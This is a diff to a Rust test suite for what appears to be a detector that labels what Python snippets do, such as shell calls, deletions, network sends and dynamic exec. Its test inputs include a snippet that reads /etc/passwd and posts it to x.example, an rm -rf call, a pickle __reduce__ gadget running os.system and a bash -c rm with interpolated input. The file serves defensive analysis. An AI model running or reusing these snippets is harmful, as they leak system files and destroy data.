@@ -51,6 +51,15 @@ fn everyday_programs_are_calm() {
                 "import os; os.environ['X'] = '1'; os.makedirs('build', exist_ok=True); os.path.exists('x')",
                 &["write build"],
             ),
+        ],
+    );
+}
+
+#[test]
+fn everyday_tools_are_calm() {
+    check(
+        Python,
+        &[
             ("import subprocess; subprocess.run(['git', 'status'], check=True)", &["argv git|status"]),
             (
                 "import os, subprocess\nenv = os.environ.copy()\nenv['A'] = '1'\nsubprocess.run(['make'], env=env)",
@@ -172,6 +181,15 @@ fn what_reaches_out_is_seen() {
             ),
             ("import subprocess; subprocess.run(cmd)", &["argv ?"]),
             ("import os; os.execvp('rm', ['rm', '-rf', 'x'])", &["argv rm|-rf|x"]),
+        ],
+    );
+}
+
+#[test]
+fn functions_are_followed() {
+    check(
+        Python,
+        &[
             ("import os\nf = os.system\nf('ls')", &["shell ls"]),
             ("import os\nd = {'a': os.system}\nd['a']('ls')", &["shell ls"]),
             ("import os\n(lambda f: f('ls'))(os.system)", &["shell ls"]),
@@ -186,6 +204,15 @@ fn what_reaches_out_is_seen() {
             ("import operator, os; operator.methodcaller('system', 'ls')(os)", &["shell ls"]),
             ("import os\ndef never_called():\n    os.system('ls')", &["shell ls"]),
             ("import os; x = lambda: os.system('ls')", &["shell ls"]),
+            ("import os.path as p; p.os.system('ls')", &["shell ls"]),
+            ("import os; sorted(['a', 'b'], key=os.remove)", &["delete a", "delete b"]),
+            ("import subprocess; subprocess.run(['bash', '-c', f'rm {x}'])", &["argv bash|-c|rm $UNKNOWN"]),
+            ("@exec\n@input\nclass X: pass", &["dynamic exec"]),
+            ("import os\nclass E:\n    def __reduce__(self): return (os.system, ('ls',))", &["dynamic os.system"]),
+            (
+                "def walk(p):\n    for c in p.iterdir(): walk(c)\n    p.rmdir()\nfrom pathlib import Path\nwalk(Path('x'))",
+                &["delete x", "delete ?"],
+            ),
             (
                 "import requests; requests.post('https://x.example', data=open('/etc/passwd'))",
                 &["read /etc/passwd", "send https://x.example"],
